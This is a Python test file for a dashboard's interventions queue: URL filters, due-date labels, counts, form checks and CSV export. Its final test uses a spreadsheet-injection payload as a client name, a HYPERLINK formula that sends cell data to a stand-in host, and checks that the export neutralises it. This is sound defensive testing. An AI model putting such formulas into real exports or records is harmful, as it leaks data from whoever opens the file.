"""The Interventions tab's view models: filters in the URL, the queue and its counts, the two forms.

Tiny hand-made rows and books; every expected value is worked out by hand beside the test.
"""

from __future__ import annotations

import datetime as dt
from zoneinfo import ZoneInfo

import pandas as pd
import pytest

from dashboard.ids import InterventionsIds
from dashboard.services import interventions
from dashboard.tabs.interventions import fields
from dashboard.tabs.interventions import view_model as queue_view
from dashboard.tabs.interventions.callbacks import filters_from_controls
from dashboard.tabs.interventions.form import view_model as form_view
from dashboard.tabs.interventions.layout import control_values, queue_key
from dashboard.tabs.interventions.manage import view_model as manage_view
from dashboard.view_state import ViewState
from scoring.enums import (
    OPEN_STATUSES,
    InterventionStatus,
    InterventionType,
    Outcome,
    Priority,
    RiskLevel,
    Role,
    Source,
)

LONDON = ZoneInfo("Europe/London")
NOW = pd.Timestamp("2026-01-15 12:00", tz="UTC")  # winter: London is UTC


def state(search: str) -> ViewState:
    return ViewState.from_search(search)


# -- filters in the URL ----------------------------------------------------------------


def test_the_plain_url_is_the_open_queue_of_everyone():
    filters = queue_view.QueueFilters.from_state(state("?tab=interventions"))
    assert filters == queue_view.QueueFilters()
    assert filters.statuses == OPEN_STATUSES
    assert filters.params() == []
    assert not filters.has_filters


def test_filters_round_trip_through_the_url_and_keep_other_tabs_parameters():
    search = (
        "?tab=interventions&risk=high&status=completed&priority=urgent,high&type=call"
        "&assignee=7&source=auto&mine=1&overdue=1&ipage=3&period=90d"
    )
    filters = queue_view.QueueFilters.from_state(state(search))
    assert filters.statuses == (InterventionStatus.COMPLETED,)
    assert filters.priorities == (Priority.URGENT, Priority.HIGH)
    assert filters.types == (InterventionType.CALL,)
    assert (filters.assignee, filters.source, filters.mine, filters.overdue_only, filters.page) == (
        7, Source.AUTO, True, True, 3,
    )  # fmt: skip
    # Written back: Risk Segments' risk filter and Analytics' period stay as they were.
    again = filters.apply_to(state("?tab=interventions&risk=high&period=90d"))
    assert again.to_search() == (
        "?tab=interventions&risk=high&period=90d&status=completed&priority=urgent,high&type=call"
        "&assignee=7&source=auto&mine=1&overdue=1&ipage=3"
    )
    assert queue_view.QueueFilters.from_state(state(again.to_search())) == filters


def test_malformed_filters_in_a_hand_edited_url_are_ignored():
    filters = queue_view.QueueFilters.from_state(
        state("?status=nonsense&priority=soon&assignee=-2&source=robot&ipage=zero&mine=yes")
    )
    assert filters == queue_view.QueueFilters()


def test_all_statuses_is_written_as_all():
    filters = queue_view.QueueFilters(statuses=())
    assert filters.params() == [("status", "all")]
    assert queue_view.QueueFilters.from_state(state("?status=all")).statuses == ()


def test_status_choices_name_the_common_sets_and_keep_a_hand_made_one():
    assert queue_view.status_choice(OPEN_STATUSES) == "open"
    assert (
        queue_view.status_choice((InterventionStatus.IN_PROGRESS, InterventionStatus.PENDING))
        == "open"
    )
    assert queue_view.status_choice(()) == "all"
    assert queue_view.status_choice((InterventionStatus.CANCELLED,)) == "cancelled"
    mixed = (InterventionStatus.PENDING, InterventionStatus.COMPLETED)
    assert queue_view.status_choice(mixed) == "pending,completed"
    assert queue_view.statuses_of_choice("pending,completed") == mixed
    assert queue_view.statuses_of_choice("open") == OPEN_STATUSES
    labels = [o["label"] for o in queue_view.status_filter_options(mixed)]
    assert labels[0] == "Open" and labels[-1] == "Pending or Completed"


def test_a_control_change_goes_back_to_the_first_page_but_the_pager_does_not():
    filters = queue_view.QueueFilters(page=4)
    values = control_values(filters)
    assert values == {
        "status": "open", "priority": [], "type": [], "assignee": None, "source": "any",
        "mine": False, "overdue": False, "page": 4,
    }  # fmt: skip
    changed = filters_from_controls(
        filters, InterventionsIds.PRIORITY, {**values, "priority": ["urgent"]}
    )
    assert (changed.priorities, changed.page) == ((Priority.URGENT,), 1)
    paged = filters_from_controls(filters, InterventionsIds.PAGER, {**values, "page": 2})
    assert paged == filters.replace(page=2)
    assert (
        filters_from_controls(changed, InterventionsIds.CLEAR, values) == queue_view.QueueFilters()
    )
    source = filters_from_controls(filters, InterventionsIds.SOURCE, {**values, "source": "manual"})
    assert source.source == Source.MANUAL
    assert queue_key(source) == "source=manual"


def test_the_filters_in_words():
    names = {3: "Tom Ellis"}
    text = queue_view.filters_text(
        queue_view.QueueFilters(
            priorities=(Priority.URGENT, Priority.HIGH), assignee=3, overdue_only=True
        ),
        names,
    )
    assert (
        text
        == "open · urgent or high priority · assigned to Tom Ellis · overdue only · priority, then due date"
    )
    assert queue_view.filters_text(
        queue_view.QueueFilters(statuses=(), mine=True), names
    ).startswith("all statuses · assigned to me")


# -- due dates and rows ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("due", "status", "expected"),
    [
        (NOW - pd.Timedelta(days=2, hours=3), "pending", ("overdue", "overdue by 2 days")),
        (NOW - pd.Timedelta(hours=15, minutes=20), "in_progress", ("overdue", "overdue by 15 h")),
        (NOW - pd.Timedelta(minutes=10), "pending", ("overdue", "overdue by 10 min")),
        (NOW + pd.Timedelta(hours=5, minutes=59), "pending", ("soon", "due in 5 h")),
        (NOW + pd.Timedelta(hours=48), "pending", ("soon", "due in 2 days")),
        (NOW + pd.Timedelta(hours=49), "pending", ("later", "in 2 days")),
        (NOW - pd.Timedelta(days=2), "completed", ("closed", "")),
    ],
)
def test_due_state_by_hand(due, status, expected):
    assert queue_view.due_state(due, status, now=NOW) == expected


def _queue_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "id": [4, 9],
            "client_id": ["c-1", "c-2"],
            "client_name": ["Amelia Hart", "Chidi Okafor"],
            "type": ["call", "account_review"],
            "priority": ["urgent", "low"],
            "status": ["pending", "completed"],
            "title": ["Call about the venue", "Quarterly review"],
            "description": ["", "All good"],
            "assigned_to": pd.array([3, None], dtype="Int64"),
            "assigned_to_name": ["Tom Ellis", None],
            "due_date": pd.to_datetime(["2026-01-14 09:30", "2026-01-10 17:00"], utc=True),
            "overdue": [True, False],
            "source": ["auto", "manual"],
            "created_at": pd.to_datetime(["2026-01-13 09:30", "2026-01-03 17:00"], utc=True),
            "started_at": pd.to_datetime([None, "2026-01-04 10:00"], utc=True),
            "completed_at": pd.to_datetime([None, "2026-01-09 11:15"], utc=True),
            "cancelled_at": pd.to_datetime([None, None], utc=True),
            "outcome": [None, "resolved"],
            "client_responded": pd.array([None, True], dtype="boolean"),
        }
    )


def test_queue_rows_are_ready_to_show():
    urgent, review = queue_view.queue_rows(_queue_frame(), now=NOW, zone=LONDON)
    assert (urgent.priority_label, urgent.type_label, urgent.source_label) == (
        "Urgent",
        "Phone call",
        "Automatic",
    )
    # Due 14 Jan 09:30, 26.5 hours before NOW (London is on UTC in January).
    assert (urgent.due_text, urgent.due_tone, urgent.due_note) == (
        "14 Jan 09:30", "overdue", "overdue by 26 h",
    )  # fmt: skip
    assert urgent.assignee == "Tom Ellis"
    assert (review.assignee, review.status_label, review.outcome_label, review.due_tone) == (
        "Unassigned", "Completed", "Resolved", "closed",
    )  # fmt: skip


def test_the_export_shows_times_in_the_display_zone():
    summer = _queue_frame().assign(
        due_date=pd.to_datetime(["2026-07-14 09:30", "2026-07-10 17:00"], utc=True)
    )
    out = queue_view.export_frame(summer, zone=LONDON)
    assert list(out.columns) == list(queue_view.EXPORT_COLUMNS.values())
    # British summer time is UTC+1.
    assert out["due"].tolist() == ["2026-07-14 10:30", "2026-07-10 18:00"]
    assert out["started"].tolist() == ["", "2026-01-04 10:00"]
    assert out["overdue"].tolist() == ["yes", "no"]
    assert out["client_responded"].tolist() == ["", "yes"]
    assert out["assignee"].tolist() == ["Tom Ellis", ""]


def test_queue_counts_follow_the_filters_over_every_open_intervention():
    open_frame = pd.DataFrame(
        {
            "status": ["pending", "in_progress", "pending", "pending"],
            "priority": ["urgent", "high", "high", "low"],
            "type": ["call", "call", "email", "call"],
            "source": ["auto", "manual", "manual", "manual"],
            "assigned_to": pd.array([3, 3, None, 5], dtype="Int64"),
            "due_date": pd.to_datetime(
                # overdue, due in 20 h, due in 3 days, overdue
                ["2026-01-14 12:00", "2026-01-16 08:00", "2026-01-18 12:00", "2026-01-15 11:00"],
                utc=True,
            ),
        }
    )
    everyone = queue_view.queue_counts(open_frame, queue_view.QueueFilters(), user_id=None, now=NOW)
    assert everyone == queue_view.QueueCounts(open=4, overdue=2, due_soon=1)
    mine = queue_view.queue_counts(
        open_frame, queue_view.QueueFilters(mine=True), user_id=3, now=NOW
    )
    assert mine == queue_view.QueueCounts(open=2, overdue=1, due_soon=1)
    calls = queue_view.QueueFilters(
        types=(InterventionType.CALL,), priorities=(Priority.HIGH, Priority.LOW)
    )
    assert queue_view.queue_counts(
        open_frame, calls, user_id=None, now=NOW
    ) == queue_view.QueueCounts(2, 1, 1)
    pending = queue_view.QueueFilters(statuses=(InterventionStatus.PENDING,), overdue_only=True)
    assert queue_view.queue_counts(
        open_frame, pending, user_id=None, now=NOW
    ) == queue_view.QueueCounts(2, 2, 0)
    closed = queue_view.QueueFilters(statuses=(InterventionStatus.COMPLETED,))
    assert queue_view.queue_counts(
        open_frame, closed, user_id=None, now=NOW
    ) == queue_view.QueueCounts(0, 0, 0)


def test_client_options_search_names_and_keep_the_chosen_one():
    names = pd.DataFrame(
        {"client_id": ["a", "b", "c"], "name": ["Amelia Hart", "Chidi Okafor", "Hartley Moss"]}
    )
    assert [o["value"] for o in queue_view.client_options(names, "hart")] == ["a", "c"]
    assert [o["value"] for o in queue_view.client_options(names, "okafor", selected="a")] == [
        "a",
        "b",
    ]
    assert queue_view.client_options(names, "nobody") == []


def test_assignee_options_show_open_work_and_a_former_assignee_as_it_is():
    members = [
        queue_view.Member(1, "Alex Morgan", 5, True),
        queue_view.Member(2, "Former Member", 0, False),
    ]
    assert queue_view.assignee_options(members) == [{"label": "Alex Morgan (5 open)", "value": 1}]
    kept = queue_view.assignee_options(members, current=2)
    assert kept[-1] == {
        "label": "Former Member (cannot take new work)",
        "value": 2,
        "disabled": True,
    }
    assert [o["label"] for o in queue_view.assignee_filter_options(members)] == [
        "Alex Morgan",
        "Former Member (former)",
    ]


# -- the new-intervention form ---------------------------------------------------------


def test_the_default_due_date_is_spelled_out_for_the_priority():
    # Thursday 15 Jan 2026, 12:00 in London: high is 48 hours later, on Saturday.
    assert fields.default_due_text("high", now=NOW, zone=LONDON) == (
        "Leave empty for the default: 48 hours for high priority, due Sat 17 Jan 12:00."
    )
    assert fields.default_due_text("low", now=NOW, zone=LONDON) == (
        "Leave empty for the default: 30 days for low priority, due Sat 14 Feb 12:00."
    )


def test_a_picked_due_date_is_local_time_and_17_00_without_a_time():
    assert fields.parse_due("2026-01-20", None, zone=LONDON) == dt.datetime(
        2026, 1, 20, 17, 0, tzinfo=dt.UTC
    )
    # In summer London is UTC+1.
    assert fields.parse_due("2026-07-20", "09:15", zone=LONDON) == dt.datetime(
        2026, 7, 20, 8, 15, tzinfo=dt.UTC
    )
    assert fields.parse_due(None, "09:15", zone=LONDON) is None
    with pytest.raises(fields.DueError):
        fields.parse_due("20/07/2026", None, zone=LONDON)
    assert fields.local_due_fields(dt.datetime(2026, 7, 20, 8, 15, 42, tzinfo=dt.UTC), LONDON) == (
        "2026-07-20",
        "09:15",
    )


def _new(**changes):
    values = {
        "client": "c-1", "type": "call", "priority": "high", "assignee": 3, "due_date": None,
        "due_time": "17:00", "title": "  Call   about the venue ", "notes": " Ask about the band. ",
    }  # fmt: skip
    values.update(changes)
    return form_view.check_new(**values, zone=LONDON)


def test_a_complete_form_gives_what_the_rules_take():
    checked, errors = _new()
    assert errors == {}
    assert checked == form_view.NewIntervention(
        client_id="c-1", type=InterventionType.CALL, priority=Priority.HIGH, assigned_to=3,
        due_date=None, title="Call about the venue", description="Ask about the band.",
    )  # fmt: skip


def test_each_missing_or_wrong_field_gets_its_own_message():
    checked, errors = _new(client=None, type=None, title="   ", due_date="soon", notes="x" * 5001)
    assert checked is None
    assert errors == {
        "client": "Choose the client this intervention is for.",
        "type": "Choose a type.",
        "title": "Give the intervention a short title.",
        "due": "Pick a date from the calendar.",
        "notes": "Keep the notes to 5,000 characters (5,001 now).",
    }
    _, errors = _new(title="t" * 201)
    assert errors == {"title": "Keep the title to 200 characters (201 now)."}


def test_the_clients_risk_suggests_a_priority():
    risk = form_view.ClientRisk(
        score=32, level=RiskLevel.CRITICAL, day=dt.date(2026, 1, 15), factor="Logins"
    )
    assert form_view.client_hint(risk) == (
        "Critical risk, score 32 on 15 Jan, main factor logins: urgent priority suggested.",
        Priority.URGENT,
    )
    assert (
        form_view.client_hint(form_view.ClientRisk(55, RiskLevel.HIGH, dt.date(2026, 1, 15), None))[
            1
        ]
        == Priority.HIGH
    )
    assert (
        form_view.client_hint(form_view.ClientRisk(85, RiskLevel.LOW, dt.date(2026, 1, 15), None))[
            1
        ]
        == Priority.LOW
    )
    assert form_view.client_hint(None) == (
        "Not scored on the latest score day: choose the priority yourself.",
        None,
    )


def test_client_risk_reads_the_latest_score_day(session, make_client, make_score):
    make_client("c-1")
    make_client("c-2")
    make_score("c-1", dt.date(2024, 3, 1), 71.0)
    make_score("c-1", dt.date(2024, 3, 2), 38.6, primary_factor="logins")
    make_score("c-2", dt.date(2024, 3, 1), 90.0)
    # 38.6 shows as 39: critical (0-39).
    assert form_view.client_risk(session, "c-1") == form_view.ClientRisk(
        39, RiskLevel.CRITICAL, dt.date(2024, 3, 2), "Logins"
    )
    assert form_view.client_risk(session, "c-2") is None  # not scored on 2 Mar


def test_refusals_of_the_rules_go_beside_their_field():
    assert fields.refusal(interventions.InvalidInput("x", field="assigned_to")) == (
        "assignee",
        fields.FIELD_MESSAGES["assigned_to"],
    )
    conflict = interventions.InterventionConflict("stale", code="version_conflict")
    assert fields.refusal(conflict) == (None, fields.CONFLICT_MESSAGE)
    closed = interventions.InterventionConflict("It is closed.", code="intervention_closed")
    assert fields.refusal(closed) == (None, "It is closed.")


# -- the manage dialog -----------------------------------------------------------------


def _record(**changes) -> dict:
    record = {
        "id": 12, "client_id": "c-1", "client_name": "Amelia Hart", "type": "meeting",
        "priority": "high", "status": "in_progress", "title": "Review the timeline",
        "description": "Opened from the risk review.", "assigned_to": 3,
        "due_date": dt.datetime(2026, 1, 14, 9, 30, 12, tzinfo=dt.UTC), "source": "manual",
        "created_at": dt.datetime(2026, 1, 10, 8, 0, tzinfo=dt.UTC),
        "updated_at": dt.datetime(2026, 1, 12, 8, 0, tzinfo=dt.UTC), "outcome": None,
        "client_responded": None, "version": 4,
        "notes": [
            {"author_name": "Tom Ellis", "body": "Left a voicemail.",
             "created_at": dt.datetime(2026, 1, 11, 14, 5, tzinfo=dt.UTC)},
            {"author_name": None, "body": "Status pending → in progress.",
             "created_at": dt.datetime(2026, 1, 12, 8, 0, tzinfo=dt.UTC)},
        ],
    }  # fmt: skip
    record.update(changes)
    return record


def test_the_dialog_model_has_the_loaded_values_and_the_history_newest_first():
    model = manage_view.manage_model(_record(), now=NOW, zone=LONDON)
    assert model.loaded == {
        "id": 12, "version": 4, "status": "in_progress", "priority": "high", "assigned_to": 3,
        "due_date": "2026-01-14", "due_time": "09:30", "outcome": None, "responded": "unknown",
    }  # fmt: skip
    assert [(n.author, n.when, n.body) for n in model.notes] == [
        ("System", "12 Jan 08:00", "Status pending → in progress."),
        ("Tom Ellis", "11 Jan 14:05", "Left a voicemail."),
    ]
    assert model.last_change == "Latest change: System, 12 Jan 08:00."
    assert (model.due_tone, model.due_note) == ("overdue", "overdue by 26 h")
    assert [o["value"] for o in model.status_options] == ["in_progress", "completed"]


@pytest.mark.parametrize(
    ("status", "offered"),
    [
        (InterventionStatus.PENDING, ["pending", "in_progress"]),
        (InterventionStatus.IN_PROGRESS, ["in_progress", "completed"]),
        (InterventionStatus.COMPLETED, ["completed"]),
        (InterventionStatus.CANCELLED, ["cancelled"]),
    ],
)
def test_the_status_choices_are_the_allowed_moves_but_cancelling(status, offered):
    assert [o["value"] for o in manage_view.status_options(status)] == offered


def _changes(**form):
    loaded = manage_view.manage_model(_record(), now=NOW, zone=LONDON).loaded
    values = {
        "status": loaded["status"], "priority": loaded["priority"], "assignee": loaded["assigned_to"],
        "due_date": loaded["due_date"], "due_time": loaded["due_time"], "outcome": None,
        "responded": "unknown",
    }  # fmt: skip
    values.update(form)
    return manage_view.manage_changes(loaded, **values, zone=LONDON)


def test_only_what_the_person_changed_is_sent():
    # The stored due time has seconds (09:30:12): left alone, it is not sent back as 09:30.
    assert _changes() == ({}, {})
    assert _changes(priority="urgent", assignee=None) == (
        {"priority": Priority.URGENT, "assigned_to": None},
        {},
    )
    changes, errors = _changes(due_time="11:00")
    assert errors == {} and changes == {"due_date": dt.datetime(2026, 1, 14, 11, 0, tzinfo=dt.UTC)}
    assert _changes(due_date="") == ({}, {"due": "An intervention needs a due date: pick one."})


def test_completing_sends_the_outcome_and_the_clients_response():
    changes, _ = _changes(status="completed", outcome="no_response", responded="no")
    assert changes == {
        "status": InterventionStatus.COMPLETED,
        "outcome": Outcome.NO_RESPONSE,
        "client_responded": False,
    }
    # Without an outcome the status alone is sent: the rules refuse it, beside the outcome.
    assert _changes(status="completed")[0] == {"status": InterventionStatus.COMPLETED}


def test_notes_are_trimmed_and_limited():
    assert manage_view.check_note("  Called back.  ") == ("Called back.", None)
    assert manage_view.check_note("   ") == (None, None)
    assert manage_view.check_note("x" * 5001) == (
        None,
        "Keep the note to 5,000 characters (5,001 now).",
    )


# -- against a database ----------------------------------------------------------------


def test_queue_page_orders_pages_and_counts_from_the_database(
    session, make_user, make_client, make_intervention
):
    tom = make_user(name="Tom Ellis")
    make_user(name="Screen", role=Role.VIEWER)
    make_client("c-1", name="Amelia Hart")
    now = pd.Timestamp("2024-03-01 12:00", tz="UTC")
    at = now.to_pydatetime()

    def add(priority, due_hours, status=InterventionStatus.PENDING, **fields):
        return make_intervention(
            "c-1", priority=priority, status=status, due_date=at + dt.timedelta(hours=due_hours),
            assigned_to=fields.pop("assigned_to", tom.id), **fields,
        )  # fmt: skip

    low = add(Priority.LOW, 300)
    urgent_later = add(Priority.URGENT, 30)
    urgent_overdue = add(Priority.URGENT, -5)
    high_soon = add(Priority.HIGH, 10, assigned_to=None)
    add(Priority.HIGH, -50, status=InterventionStatus.COMPLETED, outcome=Outcome.RESOLVED)
    session.flush()

    page = queue_view.queue_page(
        session, queue_view.QueueFilters(), user_id=None, now=now, zone=LONDON
    )
    # Urgent first, overdue before the rest; then high, then low; the completed one is not open.
    assert [row.id for row in page.rows] == [
        urgent_overdue.id,
        urgent_later.id,
        high_soon.id,
        low.id,
    ]
    assert (page.total, page.pages, page.page) == (4, 1, 1)
    assert page.counts == queue_view.QueueCounts(open=4, overdue=1, due_soon=2)
    assert page.summary == "Interventions 1–4 of 4"

    mine = queue_view.queue_page(
        session, queue_view.QueueFilters(mine=True), user_id=tom.id, now=now, zone=LONDON
    )
    assert [row.id for row in mine.rows] == [urgent_overdue.id, urgent_later.id, low.id]

    # A page past the end shows the last one.
    everything = queue_view.QueueFilters(statuses=(), page=9)
    last = queue_view.queue_page(session, everything, user_id=None, now=now, zone=LONDON)
    assert (last.page, last.total, len(last.rows)) == (1, 5, 5)

    assert [m.name for m in queue_view.team_members(session)] == ["Tom Ellis"]
    export = queue_view.queue_export(
        session, queue_view.QueueFilters(), user_id=None, now=now, zone=LONDON
    )
    assert export["id"].tolist() == [urgent_overdue.id, urgent_later.id, high_soon.id, low.id]


def test_the_queue_export_writes_a_formula_in_a_name_as_text(
    session, make_client, make_intervention
):
    link = '=HYPERLINK("https://example.invalid/?d="&B3,"Open")'
    make_client("c-1", name=link)
    now = pd.Timestamp("2024-03-01 12:00", tz="UTC")
    call = make_intervention(
        "c-1",
        title="+44 20 7946 0000 call back",
        description="-",
        due_date=dt.datetime(2024, 3, 2, 9, tzinfo=dt.UTC),
    )
    session.flush()

    content = queue_view.queue_export_csv(
        session, queue_view.QueueFilters(), user_id=None, now=now, zone=LONDON
    )

    [header, row] = content.decode("utf-8").splitlines()
    assert header.startswith("id,client_id,client,title,")
    # The id stays a number; the client's name, the title and the description are text.
    assert row.startswith(
        f'{call.id},c-1,"\'=HYPERLINK(""https://example.invalid/?d=""&B3,""Open"")",'
        "'+44 20 7946 0000 call back,"
    )
    assert row.endswith(",'-")
